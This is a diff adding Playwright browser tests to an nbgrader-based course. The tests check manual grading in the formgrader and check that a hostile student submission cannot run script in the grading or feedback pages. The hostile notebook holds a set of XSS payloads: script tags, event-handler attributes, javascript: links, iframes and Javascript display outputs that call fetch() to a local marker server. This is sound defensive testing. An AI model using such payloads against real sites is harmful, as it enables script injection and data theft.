@@ -12,6 +12,14 @@ Headless Chromium (Debian's ``chromium``; Playwright's Python package drives it 
 * **instructor**: JupyterLab from this environment (nbgrader installed) in a released copy
   of the course: Nbgrader > Formgrader lists the assignment, and neither the formgrader
   nor the Assignment List reports a missing exchange directory.
+* **manual grading**: a class autograded with the course's tools (a solved submission, a
+  failing one, a hostile one); in the formgrader's grading view the grader scores and
+  comments every essay of notebook 06 and lowers one automatic score of notebook 04 (whose
+  figures must be drawn), the failing notebook's view shows its tracebacks, and the
+  gradebook, ``make feedback``'s HTML, grades.csv and the score table then hold those
+  points and comments.
+* **hostile output**: the hostile submission's grading view and feedback page run none of
+  its payloads (no dialog, no console message, no request to a marker server).
 
 Run alone with ``make test-browser``. Each missing piece (chromium, Playwright, the student
 environment) makes the test skip with the reason. ``SONGREC_BROWSER_SHOTS=DIR`` keeps
@@ -349,3 +357,298 @@ def test_instructor_formgrader_lists_the_assignment_without_exchange_errors(
     finally:
         page.close()
         lab.stop()
+
+
+# --------------------------------------------------------------------------- manual grading
+# A class autograded by the course's own tools: "solved" hands in the solutions of notebooks
+# 04 (figures) and 06 (the manually graded essays), "failing" the untouched release of 01
+# (its tests fail), "hostile" a notebook 06 whose essay and an extra cell display script
+# payloads aimed at a marker server on 127.0.0.1.
+
+MANUAL_NB, FIGURE_NB, FAILING_NB = "06_questions", "04_training", "01_mapping"
+XSS_MARKER = "XSS-MARKER"
+# Points the grader gives each essay of notebook 06 (as typed into the formgrader).
+MANUAL_POINTS = {"06_q1": 2, "06_q2": 2.5, "06_q3": 3, "06_q4": 1, "06_q5": 0.5, "06_q6": 2}
+OVERRIDDEN = ("04_train_test_seed", 0)  # an automatic score the grader lowers (1 point earned)
+FORMGRADER_ERROR = "Sorry, the formgrader encountered an error"
+
+
+class MarkerServer:
+    """An HTTP server on 127.0.0.1 that records every request: a student script that runs
+    in a grading page announces itself here."""
+
+    def __init__(self):
+        import http.server
+        import threading
+
+        self.requests: list[str] = []
+        record = self.requests
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 (http.server's name)
+                record.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def stop(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _hostile_cells(marker: str) -> tuple[str, str]:
+    """An essay (Markdown) and a code cell that try every way of running script in a page."""
+    run = f"console.log('{XSS_MARKER}');fetch('{marker}/' + location.protocol);alert('xss')"
+    essay = "\n\n".join([
+        "My answer, with **bold** text that must stay readable.",
+        f"<script>{run}</script>",
+        f"<img src=x onerror=\"{run}\">",
+        f"<svg onload=\"{run}\"><circle r=5></circle></svg>",
+        f"<a id=\"md-link\" href=\"javascript:{run}\">click me</a>",
+        f"<iframe src=\"{marker}/md-iframe\"></iframe><img src=\"{marker}/md-img\">",
+        f"<details open ontoggle=\"{run}\"><summary>s</summary></details>",
+    ])
+    code = f"""from IPython.display import HTML, SVG, Javascript, Markdown, display
+run = {run!r}
+display(HTML(f"<script>{{run}}</script><b>student html</b>"))
+display(HTML(f'<img src=x onerror="{{run}}">'))
+display(Javascript(run))
+display({{"application/javascript": run, "text/plain": "js"}}, raw=True)
+display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{{run}}"><circle r="5"/></svg>'))
+display(HTML(f'<a id="out-link" href="javascript:{{run}}">click me</a>'))
+display(HTML('<iframe src="{marker}/out-iframe"></iframe><img src="{marker}/out-img">'))
+display(Markdown(f"*markdown output* <img src=x onerror=\\"{{run}}\\">"))
+display({{"image/png": 'x" onerror="' + run, "text/plain": "png"}}, raw=True)
+print("plain text <b>stays</b> visible")
+"""
+    return essay, code
+
+
+@pytest.fixture(scope="module")
+def marker():
+    server = MarkerServer()
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def graded_course(released_course, marker, tmp_path_factory):
+    """The released course with the three students above autograded (``make autograde``'s code)."""
+    import nbformat
+
+    from tools.instructor import grading
+
+    root = tmp_path_factory.mktemp("graded") / "course"
+    shutil.copytree(released_course, root, ignore=shutil.ignore_patterns("submitted", "autograded", "feedback"))
+    source, release = root / "notebooks" / "song2vec", root / "release" / "song2vec"
+
+    def hand_in(student: str, name: str, nb) -> None:
+        target = root / "submitted" / student / "song2vec" / f"{name}.ipynb"
+        target.parent.mkdir(parents=True, exist_ok=True)
+        nbformat.write(nb, target)
+
+    for name in (MANUAL_NB, FIGURE_NB):
+        hand_in("solved", name, nbformat.read(source / f"{name}.ipynb", as_version=4))
+    hand_in("failing", FAILING_NB, nbformat.read(release / f"{FAILING_NB}.ipynb", as_version=4))
+    hostile = nbformat.read(release / f"{MANUAL_NB}.ipynb", as_version=4)
+    essay, code = _hostile_cells(marker.url)
+    answer = next(c for c in hostile.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "06_q1")
+    answer.source = essay
+    hostile.cells.append(nbformat.v4.new_code_cell(code))
+    hand_in("hostile", MANUAL_NB, hostile)
+
+    env = toy.course_env_for_tests(300)
+    grading.run_autograde(root, env=env, out=io.StringIO(), timeout=900)
+    return root
+
+
+def _submission_id(root: Path, student: str, notebook: str) -> str:
+    from nbgrader.api import Gradebook
+
+    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
+        return gb.find_submission_notebook(notebook, "song2vec", student).id
+
+
+def _grades(root: Path, student: str, notebook: str) -> dict[str, tuple]:
+    """grade_id -> (auto score, manual score, comment) as the gradebook holds them."""
+    from nbgrader.api import Gradebook
+
+    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
+        nb = gb.find_submission_notebook(notebook, "song2vec", student)
+        comments = {c.name: c.manual_comment for c in nb.comments}
+        return {g.name: (g.auto_score, g.manual_score, comments.get(g.name)) for g in nb.grades}
+
+
+class PageWatch:
+    """Everything a page reports: dialogs (dismissed), console messages, page errors, requests."""
+
+    def __init__(self, page):
+        self.dialogs, self.console, self.errors, self.requests, self.failed = [], [], [], [], []
+        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
+        page.on("response", lambda r: self.failed.append(f"{r.status} {r.request.method} {r.url}")
+                if r.status >= 400 and "/formgrader/" in r.url else None)
+        page.on("console", lambda m: self.console.append(m.text))
+        page.on("pageerror", lambda e: self.errors.append(str(e)))
+        page.on("request", lambda r: self.requests.append(r.url))
+
+
+def _open_grading_view(page, lab: Lab, root: Path, student: str, notebook: str, shots: Path) -> None:
+    sid = _submission_id(root, student, notebook)
+    response = page.goto(lab.url(f"formgrader/submissions/{sid}/"))
+    page.wait_for_load_state("load")
+    page.wait_for_timeout(1500)  # the grading widgets fill in from the formgrader's API
+    page.screenshot(path=str(shots / f"formgrader-{student}-{notebook}.png"), full_page=True)
+    body = page.locator("body").inner_text()
+    assert response.status == 200 and FORMGRADER_ERROR not in body, f"{response.status}: {body[:2000]}"
+    assert "TemplateNotFound" not in body
+
+
+def _open_lab(page, lab: Lab) -> None:
+    """JupyterLab first, as the grader starts: it sets the cookies (XSRF) the formgrader's saves need."""
+    page.goto(lab.url("lab"))
+    page.wait_for_selector(".lm-MenuBar-itemLabel", timeout=120_000)
+
+
+def _wait_saved(root: Path, student: str, notebook: str, expected: dict, timeout: float = 30) -> dict:
+    """The gradebook's grades once ``expected`` (grade_id -> manual score) are all saved."""
+    deadline = time.monotonic() + timeout
+    while True:
+        grades = _grades(root, student, notebook)
+        if all(grades.get(g, (None, None))[1] == v for g, v in expected.items()) or time.monotonic() > deadline:
+            return grades
+        time.sleep(0.5)
+
+
+def _type_and_leave(page, selector: str, value: str) -> None:
+    page.locator(selector).fill(value)
+    page.locator(selector).press("Tab")  # the formgrader saves a score or comment when it loses focus
+
+
+def test_instructor_grades_manually_in_the_formgrader(browser, graded_course, tmp_path, shots):
+    from tools.instructor import grading
+    from tools.instructor.scores import run_export
+
+    root = graded_course
+    solution = json.loads((root / "notebooks" / "song2vec" / f"{FIGURE_NB}.ipynb").read_text())
+    auto_max = sum(c["metadata"]["nbgrader"]["points"] for c in solution["cells"]
+                   if c["metadata"].get("nbgrader", {}).get("grade") and c["cell_type"] == "code")
+    before = _grades(root, "solved", FIGURE_NB)
+    assert sum(auto for auto, _m, _c in before.values()) == auto_max, before
+
+    lab = Lab(Path(sys.executable), root, tmp_path / "grader-home", _lab_env(tmp_path))
+    page = browser.new_page()
+    watch = PageWatch(page)
+    try:
+        _open_lab(page, lab)
+        _open_grading_view(page, lab, root, "solved", MANUAL_NB, shots)
+        for grade_id, points in MANUAL_POINTS.items():
+            _type_and_leave(page, f"input.score[id='{grade_id}']", str(points))
+            _type_and_leave(page, f"textarea[id='{grade_id}-comment']", f"Grader's note on {grade_id}: well argued")
+        _wait_saved(root, "solved", MANUAL_NB, MANUAL_POINTS)
+        page.screenshot(path=str(shots / "formgrader-solved-graded.png"), full_page=True)
+
+        _open_grading_view(page, lab, root, "solved", FIGURE_NB, shots)
+        images = page.evaluate("() => [...document.querySelectorAll('.output_png img')].map(i => i.naturalWidth)")
+        assert images and all(w > 100 for w in images), f"figures not drawn in the grading view: {images}"
+        _type_and_leave(page, f"input.score[id='{OVERRIDDEN[0]}']", str(OVERRIDDEN[1]))
+        _wait_saved(root, "solved", FIGURE_NB, dict([OVERRIDDEN]))
+
+        _open_grading_view(page, lab, root, "failing", FAILING_NB, shots)
+        assert page.locator(".output_error").count() > 0, "the failing tests' tracebacks are not shown"
+        assert "NotImplementedError" in page.locator("body").inner_text()
+    except Exception:
+        page.screenshot(path=str(shots / "formgrader-failed.png"), full_page=True)
+        raise
+    finally:
+        page.close()
+        lab.stop()
+    # MathJax comes from a CDN, which the test machine (like an offline grader) cannot reach;
+    # the formgrader's script then reports it missing. Nothing else may fail.
+    page_errors = [e for e in watch.errors if "MathJax is not defined" not in e]
+    assert not page_errors and not watch.dialogs, (page_errors, watch.dialogs)
+    assert not watch.failed, f"the formgrader answered with errors: {watch.failed}"
+    console_errors = [m for m in watch.console if "error" in m.lower() and "mathjax" not in m.lower()
+                      and "ERR_" not in m]
+    assert not console_errors, console_errors
+
+    # The gradebook holds what was typed.
+    saved = _grades(root, "solved", MANUAL_NB)
+    for grade_id, points in MANUAL_POINTS.items():
+        assert saved[grade_id][1] == points, (grade_id, saved[grade_id])
+        assert saved[grade_id][2] == f"Grader's note on {grade_id}: well argued"
+    assert _grades(root, "solved", FIGURE_NB)[OVERRIDDEN[0]][1] == OVERRIDDEN[1]
+
+    # make feedback / make export (the same functions) show them.
+    env = toy.course_env_for_tests(300)
+    log = io.StringIO()
+    grading.run_feedback(root, env=env, out=log)
+    feedback = (root / "feedback" / "solved" / "song2vec" / f"{MANUAL_NB}.html").read_text()
+    manual_total = sum(MANUAL_POINTS.values())
+    assert f"(Score: {manual_total:.1f} / 15.0" in feedback, feedback[:3000]
+    for grade_id, points in MANUAL_POINTS.items():
+        assert f"Grader's note on {grade_id}: well argued" in feedback
+        assert f"Score: {float(points)} / " in feedback
+    assert "not graded yet" not in feedback
+    figure_feedback = (root / "feedback" / "solved" / "song2vec" / f"{FIGURE_NB}.html").read_text()
+    assert f"(Score: {auto_max - 1:.1f} / {auto_max:.1f}" in figure_feedback
+    out = io.StringIO()
+    run_export(root, out=out)
+    rows = {r["student_id"]: r for r in __import__("csv").DictReader((root / "grades.csv").open())}
+    assert float(rows["solved"][MANUAL_NB]) == manual_total
+    assert float(rows["solved"][FIGURE_NB]) == auto_max - 1
+    assert rows["solved"]["needs_manual_grade"] == "0"
+    table_row = next(line for line in out.getvalue().splitlines() if line.startswith("solved "))
+    assert f"{manual_total:g}" in table_row.split() and "*" not in table_row, out.getvalue()
+
+
+def test_student_output_runs_in_no_grading_page(browser, graded_course, marker, tmp_path, shots):
+    """The hostile submission's formgrader view and feedback page, in Chromium: none of its
+    payloads may run (no dialog, no console message, no request to the marker server)."""
+    from tools.instructor import grading
+
+    root = graded_course
+    lab = Lab(Path(sys.executable), root, tmp_path / "xss-home", _lab_env(tmp_path))
+    page = browser.new_page()
+    watch = PageWatch(page)
+    try:
+        _open_lab(page, lab)
+        _open_grading_view(page, lab, root, "hostile", MANUAL_NB, shots)
+        shown = page.locator("body").inner_text()
+        for link in page.get_by_text("click me").all():
+            link.click()
+        page.wait_for_timeout(1500)
+        lab_watch = dict(dialogs=list(watch.dialogs), console=list(watch.console))
+    finally:
+        page.close()
+        lab.stop()
+    assert "student html" in shown and "plain text <b>stays</b> visible" in shown and "bold" in shown
+
+    grading.run_feedback(root, env=toy.course_env_for_tests(300), out=io.StringIO())
+    html_file = root / "feedback" / "hostile" / "song2vec" / f"{MANUAL_NB}.html"
+    page = browser.new_page()
+    feedback_watch = PageWatch(page)
+    try:
+        page.goto(html_file.as_uri())
+        page.wait_for_load_state("load")
+        for link in page.get_by_text("click me").all():
+            link.click()
+        page.wait_for_timeout(1500)
+        page.screenshot(path=str(shots / "feedback-hostile.png"), full_page=True)
+        feedback_shown = page.locator("body").inner_text()
+    finally:
+        page.close()
+    assert "student html" in feedback_shown and "plain text <b>stays</b> visible" in feedback_shown
+
+    for where, seen in (("formgrader", lab_watch), ("feedback", vars(feedback_watch))):
+        assert not seen["dialogs"], f"{where}: a student script opened a dialog: {seen['dialogs']}"
+        assert not [m for m in seen["console"] if XSS_MARKER in m], f"{where}: a student script logged"
+    assert not marker.requests, f"student content reached the marker server: {marker.requests}"
+    assert not [u for u in watch.requests + feedback_watch.requests if u.startswith(marker.url)]
